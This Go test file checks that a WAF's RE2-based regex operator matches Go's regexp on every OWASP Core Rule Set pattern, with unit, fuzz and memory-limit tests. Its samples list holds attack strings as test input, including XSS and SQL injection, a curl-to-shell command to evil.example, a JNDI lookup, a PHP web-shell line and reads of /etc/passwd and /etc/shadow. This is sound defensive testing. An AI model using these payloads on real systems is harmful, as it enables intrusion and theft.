package rx

import (
	"errors"
	"io/fs"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"rsc.io/binaryregexp"

	"github.com/vilaca/portal/internal/waf/operatortest"
)

// crsPatterns are the arguments of every @rx of the embedded Core Rule Set.
var crsPatterns = sync.OnceValues(func() ([]string, error) {
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	if err != nil {
		return nil, err
	}
	quoted := regexp.MustCompile(`"@rx ((?:[^"\\]|\\.)*)"`)
	var out []string
	for _, f := range files {
		b, err := fs.ReadFile(coreruleset.FS, f)
		if err != nil {
			return nil, err
		}
		for _, m := range quoted.FindAllStringSubmatch(string(b), -1) {
			out = append(out, strings.ReplaceAll(m[1], `\"`, `"`))
		}
	}
	slices.Sort(out)
	return slices.Compact(out), nil
})

// want is what Coraza v3.8.1's rx, on Go's regexp (or binaryregexp for a
// pattern of arbitrary bytes), reports for pattern and
// subject: whether it matches and the captures TX:0..8.
func want(re interface{ FindStringSubmatchIndex(string) []int }, subject string) (bool, map[int]string) {
	m := re.FindStringSubmatchIndex(subject)
	if m == nil {
		return false, nil
	}
	fields := map[int]string{}
	for i := 0; i < len(m)/2 && i < 9; i++ {
		if m[2*i] >= 0 {
			fields[i] = subject[m[2*i]:m[2*i+1]]
		} else {
			fields[i] = ""
		}
	}
	return true, fields
}

// compare fails t when the RE2 operator and Go's regexp disagree on
// pattern (an @rx argument) and subject, capturing or not.
func compare(t *testing.T, pattern string, op plugintypes.Operator, subject string) {
	t.Helper()
	var ok bool
	var fields map[int]string
	if matchesArbitraryBytes("(?sm)" + pattern) {
		ok, fields = want(binaryregexp.MustCompile(pattern), subject)
	} else {
		ok, fields = want(regexp.MustCompile("(?sm)"+pattern), subject)
	}
	plain := &operatortest.Tx{}
	if got := op.Evaluate(plain, subject); got != ok {
		t.Fatalf("@rx %q on %q: RE2 says %v, Go's regexp %v", pattern, subject, got, ok)
	}
	capt := &operatortest.Tx{Capture: true}
	if got := op.Evaluate(capt, subject); got != ok {
		t.Fatalf("@rx %q on %q, capturing: RE2 says %v, Go's regexp %v", pattern, subject, got, ok)
	}
	if ok && !equalFields(capt.Fields, fields) {
		t.Fatalf("@rx %q on %q: RE2 captures %v, Go's regexp %v", pattern, subject, capt.Fields, fields)
	}
}

func equalFields(a, b map[int]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}

func newOp(t testing.TB, pattern string) plugintypes.Operator {
	t.Helper()
	op, err := New(plugintypes.OperatorOptions{Arguments: pattern})
	if err != nil {
		t.Fatalf("@rx %q: %v", pattern, err)
	}
	return op
}

func TestSemantics(t *testing.T) {
	for _, c := range []struct{ pattern, subject string }{
		// Captures, including a group that does not take part.
		{`^/api/v(\d+)(/beta)?/(\w+)`, "/api/v2/orders"},
		// More than nine groups: only TX:0..8 are set.
		{`(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)`, "xabcdefghijk"},
		// (?s): dot matches a newline; (?m): ^ and $ at line breaks.
		{`a.b`, "a\nb"},
		{`^select$`, "x\nselect\ny"},
		// Case folding, ASCII and Unicode (the Kelvin sign folds to k).
		{`(?i)union\s+select`, "UNION\tSeLeCt"},
		{`(?i)k`, "\u212a"},
		// A payload behind bytes that are not UTF-8: Go's regexp reads
		// each as U+FFFD and goes on; so must RE2.
		{`<script[^>]*>`, "\xff\xfe<script src=x>"},
		{`a.b`, "a\xffb"},
		{`a..b`, "a\xff\xfeb"},
		{`(.)(<)`, "\xc3<"},
		{`\x{FFFD}+`, "x\xff\xef\xbf\xbd\xfe"}, // binaryregexp, as in Coraza
		{"(\ufffd{2})", "x\xff\xef\xbf\xbd\xfe"},
		{"x(\ufffd)(\ufffd)y", "x\xff\xfey"},
		{`[^a-z]+`, "ab\x80\x81cd"},
		// Arbitrary bytes in the pattern: binaryregexp, as Coraza does.
		{`\xff\xfe(.)`, "a\xff\xfeZ"},
		{`\x{ff}`, "\xff"},
	} {
		compare(t, c.pattern, newOp(t, c.pattern), c.subject)
	}
}

// samples are subjects every CRS pattern is checked against: benign input,
// attacks the CRS detects, and bytes that are not UTF-8.
var samples = []string{
	"", "books", "/shop/products?category=books&page=2&sort=price",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
	"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(document.cookie)`,
	`1' OR '1'='1`, `1 UNION SELECT username, password FROM users--`, `'; DROP TABLE users; --`,
	`; cat /etc/passwd`, `$(curl http://evil.example/x.sh | sh)`, "`id`", `../../../../etc/shadow`,
	`${jndi:ldap://evil.example/a}`, `<?php system($_GET['c']); ?>`, `{{7*7}}`, `__proto__[x]=1`,
	"sElEcT\n*\nfrom\nusers", "\xff\xfe<script>alert(1)</script>", "1\x80 union\xc0 select",
	"name=\u00e9l\u00e8ve&ville=Z\u00fcrich", "\u212aelvin",
}

// TestCRSPatterns checks every @rx of the CRS on RE2 against Go's regexp
// on samples: they compile on RE2 within MaxMemory and agree.
func TestCRSPatterns(t *testing.T) {
	patterns, err := crsPatterns()
	if err != nil {
		t.Fatal(err)
	}
	if len(patterns) < 200 {
		t.Fatalf("found %d @rx patterns in the CRS, expected hundreds", len(patterns))
	}
	for _, p := range patterns {
		op := newOp(t, p)
		for _, s := range samples {
			compare(t, p, op, s)
		}
	}
}

// FuzzRxDifferential runs random subjects against the CRS's own patterns,
// on RE2 and on Go's regexp (Coraza's rx): same match, same captures.
func FuzzRxDifferential(f *testing.F) {
	patterns, err := crsPatterns()
	if err != nil {
		f.Fatal(err)
	}
	for i, s := range samples {
		f.Add(uint16(i*37), s)
	}
	ops := make([]plugintypes.Operator, len(patterns))
	for i, p := range patterns {
		ops[i] = newOp(f, p)
	}
	f.Fuzz(func(t *testing.T, which uint16, subject string) {
		i := int(which) % len(patterns)
		compare(t, patterns[i], ops[i], subject)
	})
}

// TestMaxMemoryBound: a pattern of a few bytes whose RE2 program is large
// (a thousand Unicode letters, each a big UTF-8 automaton) is refused at
// compile time with a clear error instead of taking RE2's memory. With
// go-re2's default budget (128 MiB) it compiles.
func TestMaxMemoryBound(t *testing.T) {
	_, err := New(plugintypes.OperatorOptions{Arguments: `\pL{1000}`})
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("@rx \\pL{1000}: got %v, want an error wrapping ErrTooLarge", err)
	}
	if !strings.Contains(err.Error(), "MiB") {
		t.Errorf("the error does not say the limit: %v", err)
	}
	// The CRS's largest patterns fit: TestCRSPatterns compiles them all.
}
